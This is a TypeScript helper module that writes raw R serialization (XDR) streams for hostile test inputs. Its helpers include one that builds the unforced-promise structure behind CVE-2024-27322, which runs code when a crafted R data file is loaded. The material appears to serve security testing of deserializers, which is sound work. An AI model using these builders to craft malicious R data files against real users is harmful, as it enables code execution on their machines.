// Byte-level writer for R serialization streams (R src/main/serialize.c, XDR and ASCII), for attacks R
// itself does not write: bare promises, hostile lengths, nesting, unknown types.
export const T = { SYM: 1, LIST: 2, CLO: 3, ENV: 4, PROM: 5, LANG: 6, CHAR: 9, INT: 13, REAL: 14, STR: 16, VEC: 19, NIL: 254, GLOBALENV: 253, UNBOUND: 252 } as const;

export function i32(v: number): Uint8Array {
  const b = new Uint8Array(4);
  new DataView(b.buffer).setInt32(0, v, false);
  return b;
}

export function cat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) { out.set(p, at); at += p.length; }
  return out;
}

const enc = (s: string) => new TextEncoder().encode(s);
export const charsxp = (s: string) => cat(i32(T.CHAR | (64 << 12)), i32(enc(s).length), enc(s));
export const sym = (name: string) => cat(i32(T.SYM), charsxp(name));
export const strsxp = (...xs: string[]) => cat(i32(T.STR), i32(xs.length), ...xs.map(charsxp));
export const NIL = i32(T.NIL);
/** A call f(args...): LANGSXP cell with the function symbol, then one LISTSXP cell per argument. */
export const call = (f: string, ...args: Uint8Array[]) => cat(i32(T.LANG), sym(f), ...args.map((a) => cat(i32(T.LIST), a)), NIL);
/** An unforced promise (value R_UnboundValue) without environment: the CVE-2024-27322 shape. */
export const promise = (code: Uint8Array) => cat(i32(T.PROM), i32(T.UNBOUND), code);
export const closure = (body: Uint8Array) => cat(i32(T.CLO | (1 << 10)), i32(T.GLOBALENV), NIL, body);
export const list = (...items: Uint8Array[]) => cat(i32(T.VEC), i32(items.length), ...items);

/** XDR stream, format version 3, written by R 4.2.2, native encoding UTF-8. */
export function xdr(item: Uint8Array): Uint8Array {
  return cat(enc('X\n'), i32(3), i32(0x040202), i32(0x030500), i32(5), enc('UTF-8'), item);
}
